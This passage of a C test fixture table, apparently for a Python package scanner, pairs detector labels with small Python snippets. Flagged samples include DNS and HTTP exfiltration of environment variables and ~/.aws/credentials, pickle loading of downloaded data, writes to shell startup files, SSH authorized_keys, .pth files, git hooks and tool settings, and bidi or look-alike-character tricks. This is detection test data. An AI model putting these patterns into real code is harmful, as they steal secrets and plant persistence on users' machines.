     "import requests\ndef f():\n    requests.get('http://example.org/')\n__name__ == 'x' and 0 or f()\n"},
    /* machine code */
    {P_IMPORT, "hidden-code",
     "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)\n"},
    {P_IMPORT, NULL, "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)\n"},
    {P_IMPORT, NULL,
     "import mmap\ndef f():\n    return mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)\n"},
    /* names made of local data */
    {P_IMPORT, "dns-theft", "import os, socket\ndef f():\n    socket.gethostbyname_ex(os.environ['A'] + '.x.example.org')\n"},
    {P_IMPORT, NULL, "import os, socket\ndef f():\n    return socket.gethostbyname(os.environ['MASTER_ADDR'])\n"},
    {P_IMPORT, "secret-theft",
     "import requests\nfrom pathlib import Path\ndef f():\n    requests.post(u, data=(Path.home() / '.aws' / 'credentials').read_bytes())\n"},
    {P_IMPORT, NULL,
     "import requests\nfrom pathlib import Path\ndef f():\n    requests.post(u, data=(Path.home() / '.cache' / 'a').read_bytes())\n"},
    {P_IMPORT, "remote-code", "import pickle, requests\ndef f():\n    return pickle.loads(requests.get(u).content)\n"},
    /* the nearest honest code of findings that seldom hold */
    {P_IMPORT, NULL, "U = 'https://example.org/docs/transfer.sh-notes'\n"},
    {P_IMPORT, NULL, "U = 'http://127.0.0.1:8080/x'\nV = 'http://192.168.1.4/'\n"},
    {P_IMPORT, NULL, "P = 'tcp://pool.example.org:3333'\n"},
    {P_INSTALL, NULL, "import shutil\nshutil.which('git')\n"},
    {P_IMPORT, NULL, "import os\ndef f(d):\n    return os.path.exists(os.path.join(d, 'x.pth'))\n"},
    {P_IMPORT, NULL, "from pathlib import Path\ndef f(d):\n    return (Path(d) / 'x.pth').read_text()\n"},
    {P_IMPORT, NULL,
     "from pathlib import Path\ndef f(d):\n    return (Path(d) / 'x.pth').read_text()\n"},
    {P_IMPORT, NULL,
     "import subprocess\ndef f(c):\n    return subprocess.run(c, "
     "creationflags=subprocess.CREATE_NO_WINDOW)\n"},
    /* data that becomes source */
    {P_IMPORT, "data-code", "import os\nos.replace('a/x.dat', 'a/x.py')\n"},
    {P_IMPORT, "data-code", "from pathlib import Path\nPath('a/x.dat').rename('a/x.py')\n"},
    {P_IMPORT, "data-code", "from pathlib import Path\nPath('a/x.dat').replace('a/x.py')\n"},
    {P_IMPORT, NULL, "X = 'a/x.dat'.replace('a/x.dat', 'a/x.py')\n"},
    {P_IMPORT, "data-code",
     "from pathlib import Path\nPath('a/x.py').write_text(Path('a/x.dat').read_text())\n"},
    {P_IMPORT, "data-code",
     "import shutil\nwith open('a/x.dat') as i, open('a/x.py', 'w') as o:\n    "
     "shutil.copyfileobj(i, o)\n"},
    {P_IMPORT, "data-code",
     "with open('a/x.py', 'w') as o:\n    o.writelines(open('a/x.dat').readlines())\n"},
    {P_IMPORT, NULL, "import os\ndef f():\n    os.replace('a/x.dat', 'a/x.py')\n"},
    {P_IMPORT, NULL, "import os\nos.replace('a/x.tmp.py', 'a/x.py')\n"},
    /* places that others read */
    {P_IMPORT, "persistence", "import os\ndef f():\n    os.system('echo x >> ~/.bashrc')\n"},
    {P_IMPORT, NULL, "import os\ndef f():\n    os.system('cat ~/.bashrc')\n"},
    {P_IMPORT, "persistence",
     "from pathlib import Path\ndef f():\n    with (Path.home() / '.zshenv').open('a') as o:\n     "
     "   o.write('x')\nf()\n"},
    {P_IMPORT, "persistence",
     "from pathlib import Path\ndef f():\n    (Path.home() / '.profile').write_text('x')\nf()\n"},
    {P_IMPORT, NULL,
     "from pathlib import Path\ndef f(d):\n    (Path(d) / 'run.profile').write_text('x')\n"},
    {P_IMPORT, "login-key",
     "import os\ndef f():\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as "
     "o:\n        o.write('ssh-ed25519 x')\n"},
    {P_IMPORT, NULL,
     "import os\ndef f():\n    return open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n"},
    {P_IMPORT, "tool-settings",
     "from pathlib import Path\n(Path.home() / '.config/pip/pip.conf').write_text('x')\n"},
    {P_IMPORT, "tool-settings",
     "import os\ndef f():\n    with open(os.path.expanduser('~/.claude/settings.json'), 'w') as "
     "o:\n        o.write('{}')\nf()\n"},
    {P_IMPORT, "tool-settings", "import shutil\nshutil.copy('x.json', '.vscode/tasks.json')\n"},
    {P_INSTALL, "tool-settings",
     "import os\ndef f():\n    open('.git/hooks/pre-commit', 'w').write('x')\n"},
    {P_IMPORT, NULL,
     "from pathlib import Path\ndef f():\n    (Path.home() / "
     "'.config/pip/pip.conf').write_text('x')\n"},
    {P_IMPORT, NULL,
     "from pathlib import Path\nX = (Path.home() / '.config/pip/pip.conf').read_text()\n"},
    {P_IMPORT, "persistence",
     "import os\nwith open(os.path.join(d, 'x.pth'), 'w') as o:\n    o.write('import x')\n"},
    {P_IMPORT, "persistence",
     "import os, site\ndef f():\n    with open(os.path.join(site.getsitepackages()[0], 'x.pth'), "
     "'w') as o:\n        o.write('import x')\n"},
    {P_INSTALL, "start-file",
     "import os\nwith open(os.path.join(d, 'x.pth'), 'w') as o:\n    o.write('import x')\n"},
    {P_INSTALL, NULL,
     "import os\nwith open(os.path.join(d, 'x.txt'), 'w') as o:\n    o.write('import x')\n"},
    /* the text itself */
    {P_IMPORT, "source-encoding", "# coding: unicode_escape\n"},
    {P_IMPORT, NULL, "# coding: latin-1\nx = '\xe9'\n"},
    {P_IMPORT, "source-refused", "exec(\n"},
    {P_IMPORT, "bidi-control", "x = 'a'  # \xe2\x80\xae b\n"},
    {P_IMPORT, NULL, "x = '\xe2\x80\x9c'\n"},
    {P_IMPORT, "look-alike-name", "\xf0\x9d\x91\x92\xf0\x9d\x91\xa5\xf0\x9d\x91\x92\xf0\x9d\x91\x90('1')\n"},
    {P_IMPORT, "look-alike-name", "def l\xd0\xbe" "ad(): pass\n"},
    {P_IMPORT, NULL, "\xce\x94t = 1\n\xd0\xb4\xd0\xb0\xd1\x82\xd0\xb0 = 2\n"},
};

const size_t source_row_count = CH_ARRAY_LEN(source_rows);
